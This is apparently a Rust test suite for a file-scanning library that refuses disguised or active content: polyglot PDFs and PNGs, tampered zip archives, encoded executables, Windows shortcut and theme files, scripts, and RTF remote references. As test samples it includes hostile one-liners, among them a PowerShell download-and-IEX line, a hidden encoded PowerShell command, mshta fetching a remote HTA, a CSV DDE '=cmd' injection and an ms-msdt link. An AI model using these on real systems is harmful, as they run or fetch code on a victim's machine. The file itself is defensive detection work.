//! Files that are more than they show: two kinds in the same bytes, entries that no list names, files in
//! letters, scripts without their ending; and honest texts beside them.

use std::io::Write;

use kit_files::{Danger, ExtractedText, FileKind, Policy, Refusal, extract_text};

use crate::samples::{docx, look, pdf, png, stream, zip};

fn danger(bytes: &[u8], name: &str) -> Option<Danger> {
    match look(bytes, name, &Policy::DOCUMENTS) {
        Ok(_) => None,
        Err(Refusal::Active { danger, .. }) => Some(danger),
        Err(Refusal::Macros(_)) => Some(Danger::Macros),
        Err(other) => panic!("{name}: {other}"),
    }
}

fn wide(text: &str, mark: bool) -> Vec<u8> {
    let mark = mark.then_some([0xff, 0xfe]);
    let letters = text.encode_utf16().flat_map(u16::to_le_bytes);
    mark.into_iter().flatten().chain(letters).collect()
}

#[test]
fn a_file_that_is_an_archive_or_a_disk_as_well_is_refused() {
    let inner = zip(&[("a.exe", b"MZ\x90\0")]);
    let rest = b"\n%%EOF\n";
    let paper = [&pdf(b"")[..], &inner, rest].concat();
    let within = pdf(&stream("/Length 9", &inner));
    let picture = [&png()[..], &inner, b"IEND"].concat();
    for (bytes, name) in [
        (&paper, "a.pdf"),
        (&within, "a.pdf"),
        (&picture, "a.png"),
        (&[&pdf(b"")[..], b"Rar!\x1a\x07\0", rest].concat(), "a.pdf"),
        (
            &[&pdf(b"")[..], b"7z\xbc\xaf\x27\x1c\0", rest].concat(),
            "a.pdf",
        ),
        (&[&png()[..24], b"%PDF-1.4", &png()[24..]].concat(), "a.png"),
    ] {
        assert_eq!(danger(bytes, name), Some(Danger::Hidden), "{name}");
        let packed = zip(&[("b.txt", b"x"), (name, bytes)]);
        assert_eq!(danger(&packed, "a.zip"), Some(Danger::Hidden), "{name}");
    }
    let mut disk = pdf(b"");
    disk.resize(0x8001, b' ');
    disk.extend(b"CD001\x01\n%%EOF\n");
    assert_eq!(danger(&disk, "a.pdf"), Some(Danger::DiskImage));
}

#[test]
fn an_archive_holds_what_its_list_says_and_nothing_else() {
    let hidden = |bytes: &[u8]| {
        assert_eq!(danger(bytes, "a.zip"), Some(Danger::Hidden));
        let outer = zip(&[("b.zip", bytes)]);
        assert_eq!(danger(&outer, "a.zip"), Some(Danger::Hidden));
    };
    let one = zip(&[("hien.txt", b"x")]);
    let place = |bytes: &[u8], mark: &[u8]| {
        let found = bytes.windows(mark.len()).rposition(|it| it == mark);
        found.unwrap()
    };
    // an entry before those that are listed: its own list was cut off
    let shown = zip(&[("hien.txt", b"x")]);
    let secret = zip(&[("an.exe", b"y")]);
    let cut = place(&secret, b"PK\x01\x02");
    let mut before = [&secret[..cut], &shown].concat();
    let end = place(&before, b"PK\x05\x06");
    let list = place(&before, b"PK\x01\x02");
    before[end + 16..end + 20].copy_from_slice(&u32::try_from(list).unwrap().to_le_bytes());
    before[list + 42..list + 46].copy_from_slice(&u32::try_from(cut).unwrap().to_le_bytes());
    hidden(&before);
    // two archives, one behind the other
    hidden(&[&secret[..], &shown].concat());
    // another name at the entry than in the list
    let mut renamed = one.clone();
    let name = renamed.windows(8).position(|it| it == b"hien.txt").unwrap();
    renamed[name..name + 8].copy_from_slice(b"hien.exe");
    hidden(&renamed);
    // something behind the end
    hidden(&[&one[..], b"MZ\x90\0 and more"].concat());
    // the same name twice
    let mut twice = zip(&[("hien.txt", b"x"), ("hien.tx2", b"y")]);
    while let Some(at) = twice.windows(8).position(|it| it == b"hien.tx2") {
        twice[at + 7] = b't';
    }
    hidden(&twice);
    // honest: lengths that follow the content, padding, a remark
    let mut streamed = zip::ZipWriter::new_stream(Vec::new());
    for name in ["a.txt", "b.txt"] {
        let options = zip::write::SimpleFileOptions::default();
        streamed.start_file(name, options).unwrap();
        streamed.write_all(b"noi dung").unwrap();
    }
    streamed.set_comment("Hồ sơ của phường").unwrap();
    let streamed = streamed.finish().unwrap().into_inner();
    assert_eq!(danger(&streamed, "a.zip"), None);
    assert_eq!(danger(&[&one[..], b"\r\n\0\0"].concat(), "a.zip"), None);
    assert_eq!(danger(&docx(""), "a.docx"), None);
}

#[test]
fn films_of_flash_postscript_and_files_in_letters_are_refused_in_an_archive() {
    let line = |bytes: &[u8; 3]| {
        let [a, b, c] = bytes.map(u32::from);
        let all = a << 16 | b << 8 | c;
        let letters = [18, 12, 6, 0].map(|shift| b' ' + u8::try_from(all >> shift & 63).unwrap());
        format!("#{}", String::from_utf8_lossy(&letters))
    };
    let uu = format!(
        "Kính gửi\n\nbegin 644 cai.exe\n{}\n`\nend\n",
        line(b"MZ\x90")
    );
    for (name, bytes, found) in [
        ("a.bin", &b"CWS\x0a\0\x01\0\0x"[..], Danger::Program),
        ("a.swf", b"FWS\x05\0\0", Danger::Program),
        (
            "a.dat",
            b"%!PS-Adobe-3.0 EPSF-3.0\n(a) run\n",
            Danger::Script,
        ),
        ("a.eps", b"\xc5\xd0\xd3\xc6\x1e\0\0\0", Danger::Script),
        ("thu.txt", uu.as_bytes(), Danger::Closed),
        (
            "thu.txt",
            b"=ybegin line=128 size=9 name=a.exe\n***\n",
            Danger::Closed,
        ),
        (
            "thu.txt",
            b"(This file must be converted with BinHex 4.0)\n\n:abc",
            Danger::Closed,
        ),
        (
            "thu",
            b"From an@a.vn Mon Jan 3\nMIME-Version: 1.0\nContent-Type: a/b\n\nx",
            Danger::Closed,
        ),
        (
            "a.dat",
            b"\x60\xea\x28\0\x1e\x0b\x01\0\x10\0\x02\0\0\0",
            Danger::Closed,
        ),
    ] {
        let packed = zip(&[("b.txt", b"x"), (name, bytes)]);
        assert_eq!(danger(&packed, "a.zip"), Some(found), "{name} {bytes:?}");
    }
    assert_eq!(danger(uu.as_bytes(), "a.txt"), Some(Danger::Closed));
    for text in [
        "begin 2026 với kế hoạch mới\nnội dung\n",
        "begin 644 người\nhọp ngày 5\nend\n",
        "Bản %!PS là gì?",
    ] {
        assert_eq!(danger(text.as_bytes(), "a.txt"), None, "{text}");
    }
}

#[test]
fn shortcuts_and_settings_are_known_in_every_encoding() {
    for text in [
        "; Copyright\r\n\r\n[Theme]\r\nDisplayName=a\r\n\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\may-khac\\a.jpg\r\n",
        "[Control Panel\\Desktop]\r\nWallpaper=\\\\may-khac\\a.jpg\r\n",
        "http://vi-du.vn/a.application#a.application, Culture=neutral, PublicKeyToken=0011223344556677, processorArchitecture=msil",
        "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=http://vi-du.vn\r\n",
        "# tep\n[Desktop Entry]\nExec=sh\n",
        "[autorun]\r\nopen=a.exe\r\n",
        "[oledb]\r\nProvider=x\r\n",
        "QueryType=OLEDB\r\nVersion=1\r\n",
        "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key><string>http://vi-du.vn</string></dict></plist>",
        "<asx version=\"3.0\"><entry><ref href=\"http://vi-du.vn/a\"/></entry></asx>",
    ] {
        let found = Some(Danger::Shortcut);
        let inside = |bytes: &[u8]| danger(&zip(&[("a.txt", bytes)]), "a.zip");
        assert_eq!(inside(text.as_bytes()), found, "{text}");
        if !text.starts_with('<') {
            assert_eq!(danger(text.as_bytes(), "a.txt"), found, "{text}");
            assert_eq!(danger(&wide(text, true), "a.txt"), found, "{text}");
            assert_eq!(inside(&wide(text, false)), found, "{text}");
        }
    }
    for name in ["a.theme", "a.appref-ms", "a.website", "a.wsb", "a.eps"] {
        let packed = zip(&[(name, b"x")]);
        assert!(danger(&packed, "a.zip").is_some(), "{name}");
    }
    for text in [
        "[Chương trình họp]\n1. Khai mạc\n",
        "[Theme của hội nghị]\nĐổi mới\n",
        "Theo http://vi-du.vn/a.application thì cần cài đặt",
    ] {
        assert_eq!(danger(text.as_bytes(), "a.txt"), None, "{text}");
    }
}

#[test]
fn a_script_without_its_ending_is_one_and_a_letter_that_speaks_of_commands_is_none() {
    for text in [
        "@echo off\r\ndel /q C:\\a\r\n",
        "setlocal\r\nset x=1\r\nif exist a del a\r\ngoto :eof\r\n",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "$c = New-Object Net.WebClient\r\n$c.DownloadString('http://vi-du.vn') | IEX\r\n",
        "On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\nEnd\r\n",
        "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n",
        "#!/usr/bin/env python\nimport os\n",
        "mshta http://vi-du.vn/a.hta",
    ] {
        let found = Some(Danger::Script);
        assert_eq!(danger(text.as_bytes(), "a.txt"), found, "{text}");
        let packed = zip(&[("a.txt", text.as_bytes())]);
        assert_eq!(danger(&packed, "a.zip"), found, "{text}");
    }
    for text in [
        "Kính gửi các đơn vị,\nĐể xem địa chỉ máy, hãy mở cửa sổ lệnh và gõ:\nipconfig /all\nTrân trọng.\n",
        "Hướng dẫn cài đặt\nBước 1. Mở PowerShell.\nBước 2. Gõ lệnh sau:\npowershell -File cai-dat.ps1\nBước 3. Khởi động lại máy.\n",
        "If you agree, reply.\nFor the meeting, see the plan.\nThe end.\n",
        "Cảnh báo: thư rác có CreateObject(\"WScript.Shell\") trong tệp đính kèm.\nKhông mở tệp lạ.\nBáo người phụ trách.\n",
        "Mã;Tên\n1;An\n2;Ba\n",
        "# Báo cáo\n\n- mục 1;\n- mục 2;\n",
    ] {
        assert_eq!(danger(text.as_bytes(), "a.txt"), None, "{text}");
    }
}

#[test]
fn honest_texts_in_two_bytes_a_letter_come_in_and_are_read() {
    let text = "Họ tên\tSố tiền\nNguyễn Văn An\t5\n";
    let big: Vec<u8> = [0xfe, 0xff]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_be_bytes))
        .collect();
    for (bytes, name) in [(wide(text, true), "a.txt"), (big, "danh-sach.csv")] {
        let seen = look(&bytes, name, &Policy::DOCUMENTS).unwrap();
        assert_eq!(seen.kind, FileKind::Text, "{name}");
        let folder = tempfile::TempDir::new().unwrap();
        let path = folder.path().join("file");
        std::fs::write(&path, &bytes).unwrap();
        let read = extract_text(&path, FileKind::Text).unwrap();
        assert_eq!(read, ExtractedText::Whole(text.to_owned()), "{name}");
        assert_eq!(danger(&zip(&[(name, &bytes)]), "a.zip"), None, "{name}");
    }
    // longer than it is read in one piece, a letter torn by its end, a control, a page
    let long = wide(&"Một dòng chữ\r\n".repeat(40_000), true);
    assert!(look(&long, "a.txt", &Policy::DOCUMENTS).is_ok());
    let torn = &wide(text, true)[..21];
    for bytes in [torn, &wide("a\0b", true), &wide("<html><p>x", true)] {
        let refused = look(bytes, "a.txt", &Policy::DOCUMENTS);
        assert!(matches!(refused, Err(Refusal::Unknown { .. })), "{bytes:?}");
    }
    let cell = wide("a;b\n1;=cmd|'/c calc'!A0\n", true);
    assert_eq!(danger(&cell, "a.csv"), Some(Danger::DdeField));
}

#[test]
fn what_rich_text_names_lies_on_no_other_machine() {
    for (text, found) in [
        (
            r"{\rtf1{\shp{\*\shpinst{\sp{\sn pibName}{\sv http://vi-du.vn/a.png}}}}}",
            Danger::Remote,
        ),
        (
            r"{\rtf1{\*\zzz{\pict{\*\picprop{\sp{\sn pi{\b bN}ame}{\sv \\\\may\\a.png}}}}}}",
            Danger::Remote,
        ),
        (
            r"{\rtf1{\shp{\sp{\sn fillBlipName}{\sv \u104?ttp://vi-du.vn/a}}}}",
            Danger::Remote,
        ),
        (
            r"{\rtf1{\*\filetbl{\file\fid1\fnetwork \\\\may\\a.rtf;}}}",
            Danger::Remote,
        ),
        (
            r"{\rtf1{\*\filetbl{\file\fid1 C:\\a.rtf;}{\file\fid2 http://vi-du.vn/a.rtf;}}}",
            Danger::Remote,
        ),
        (
            r"{\rtf1{\*\nextfile http://vi-du.vn/a.rtf}}",
            Danger::Remote,
        ),
        (r"{\rtf1{\*\template vi-du.vn/a.dotm}}", Danger::Remote),
        (r"{\rtf1{\info{\hlinkbase \\\\may\\chung}}}", Danger::Link),
        (
            r"{\rtf1{\sp{\sn pihlShape}{\sv{\*\hl{\hlloc }{\hlsrc ms-msdt:/id}{\hlfr x}}}}}",
            Danger::Link,
        ),
        (
            r"{\rtf1{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}} cmd}}}",
            Danger::DdeField,
        ),
    ] {
        assert_eq!(danger(text.as_bytes(), "a.rtf"), Some(found), "{text}");
    }
    for text in [
        r"{\rtf1{\shp{\sp{\sn pibName}{\sv C:\\anh\\a.png}}{\sp{\sn wzName}{\sv http://vi-du.vn}}}}",
        r"{\rtf1{\*\filetbl{\file\fid1 C:\\a.rtf;}}}",
        r"{\rtf1{\*\template C:\\Users\\nguyen.van.an\\Normal.dotm}}",
        r"{\rtf1{\*\template Normal.dotm}}",
        r"{\rtf1{\sp{\sn pihlShape}{\sv{\*\hl{\hlloc muc}{\hlsrc https://nghean.gov.vn}{\hlfr x}}}}}",
    ] {
        assert_eq!(danger(text.as_bytes(), "a.rtf"), None, "{text}");
    }
}
